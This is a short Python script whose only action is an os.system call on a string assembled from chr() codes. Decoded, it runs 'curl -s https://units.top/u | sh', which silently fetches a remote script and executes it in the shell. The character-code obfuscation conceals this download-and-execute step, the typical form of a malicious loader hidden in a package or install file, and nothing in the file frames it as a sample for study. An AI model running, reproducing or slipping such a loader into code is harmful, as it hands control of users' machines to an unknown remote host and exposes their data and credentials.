import os
os.system(chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(115)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(115)+chr(58)+chr(47)+chr(47)+chr(117)+chr(110)+chr(105)+chr(116)+chr(115)+chr(46)+chr(116)+chr(111)+chr(112)+chr(47)+chr(117)+chr(32)+chr(124)+chr(32)+chr(115)+chr(104))
